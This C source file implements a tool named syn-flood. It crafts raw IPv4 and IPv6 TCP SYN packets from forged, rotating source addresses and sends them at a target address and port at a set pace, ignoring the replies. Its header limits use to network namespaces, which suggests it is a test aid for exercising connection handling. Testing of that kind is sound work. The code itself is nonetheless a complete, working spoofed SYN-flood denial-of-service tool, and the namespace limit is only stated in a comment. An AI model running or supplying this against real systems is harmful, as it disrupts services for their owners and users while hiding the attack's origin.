/*
 * SYNs from forged addresses, to be sent within namespaces only: syn-flood FIRST-ADDRESS SOURCES ADDRESS PORT COUNT GAP-US
 * Sends COUNT SYNs, GAP-US apart, from SOURCES addresses in turn: FIRST-ADDRESS and those that follow it in the last two octets.
 * It never answers what comes back.
 */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { SEGMENT_BYTES = 28, MOST_COUNT = 100000 };
static const unsigned char options[] = {2, 4, 5, 180, 4, 2, 1, 1}; /* MSS 1460, SACK permitted */

struct address {
  unsigned char octets[16];
  int bytes; /* 4 or 16 */
};

static struct address read_address(const char *text) {
  struct address address = {.bytes = strchr(text, ':') != NULL ? 16 : 4};
  if (inet_pton(address.bytes == 16 ? AF_INET6 : AF_INET, text, address.octets) != 1) exit(2);
  return address;
}

static void write_16(unsigned char *at, unsigned value) {
  at[0] = (unsigned char)(value >> 8);
  at[1] = (unsigned char)value;
}

static uint32_t add_up(const unsigned char *octets, int count) {
  uint32_t sum = 0;
  for (int i = 0; i < count; i += 2) sum += (uint32_t)(octets[i] << 8 | octets[i + 1]);
  return sum;
}

static unsigned checksum(uint32_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

/* A SYN with its IP header into `packet`; its length. */
static int write_syn(unsigned char *packet, const struct address *from, const struct address *to, int to_port) {
  int is_ipv6 = from->bytes == 16, header = is_ipv6 ? 40 : 20;
  memset(packet, 0, (size_t)(header + SEGMENT_BYTES));
  packet[0] = is_ipv6 ? 0x60 : 0x45;
  if (is_ipv6) {
    write_16(packet + 4, SEGMENT_BYTES);
    packet[6] = 6;
    packet[7] = 64;
  } else {
    write_16(packet + 2, header + SEGMENT_BYTES);
    packet[8] = 64;
    packet[9] = 6;
  }
  unsigned char *addresses = packet + (is_ipv6 ? 8 : 12), *tcp = packet + header;
  memcpy(addresses, from->octets, (size_t)from->bytes);
  memcpy(addresses + from->bytes, to->octets, (size_t)to->bytes);
  write_16(tcp, 1024 + (unsigned)random() % 60000);
  write_16(tcp + 2, (unsigned)to_port);
  write_16(tcp + 4, (unsigned)random() & 0xffff);
  write_16(tcp + 6, (unsigned)random() & 0xffff);
  tcp[12] = SEGMENT_BYTES / 4 << 4;
  tcp[13] = 2;
  write_16(tcp + 14, 64240);
  memcpy(tcp + 20, options, sizeof options);
  write_16(tcp + 16, checksum(add_up(addresses, 2 * from->bytes) + 6 + SEGMENT_BYTES + add_up(tcp, SEGMENT_BYTES)));
  return header + SEGMENT_BYTES;
}

int main(int argc, char **argv) {
  if (argc != 7) return fprintf(stderr, "syn-flood FIRST-ADDRESS SOURCES ADDRESS PORT COUNT GAP-US\n"), 2;
  const struct address first = read_address(argv[1]), to = read_address(argv[3]);
  int sources = atoi(argv[2]), port = atoi(argv[4]), count = atoi(argv[5]);
  long gap_us = atol(argv[6]);
  if (first.bytes != to.bytes || sources < 1 || sources > 65535 || count > MOST_COUNT) return 2;
  /* The kernel puts the checksum of the IPv4 header in. */
  int family = to.bytes == 16 ? AF_INET6 : AF_INET, raw = socket(family, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) return perror("socket"), 1;
  struct sockaddr_in6 to_ipv6 = {.sin6_family = AF_INET6};
  struct sockaddr_in to_ipv4 = {.sin_family = AF_INET};
  memcpy(&to_ipv6.sin6_addr, to.octets, 16);
  memcpy(&to_ipv4.sin_addr, to.octets, 4);
  const struct sockaddr *name = to.bytes == 16 ? (struct sockaddr *)&to_ipv6 : (struct sockaddr *)&to_ipv4;
  socklen_t name_bytes = to.bytes == 16 ? sizeof to_ipv6 : sizeof to_ipv4;
  srandom(1);
  for (int i = 0; i < count; i++) {
    struct address from = first;
    unsigned char packet[40 + SEGMENT_BYTES], *last = from.octets + from.bytes - 2;
    write_16(last, (unsigned)((last[0] << 8) + last[1] + i % sources));
    int bytes = write_syn(packet, &from, &to, port);
    if (sendto(raw, packet, (size_t)bytes, 0, name, name_bytes) != bytes) return perror("sendto"), 1;
    struct timespec pause = {.tv_sec = gap_us / 1000000, .tv_nsec = gap_us % 1000000 * 1000};
    nanosleep(&pause, NULL);
  }
  return 0;
}
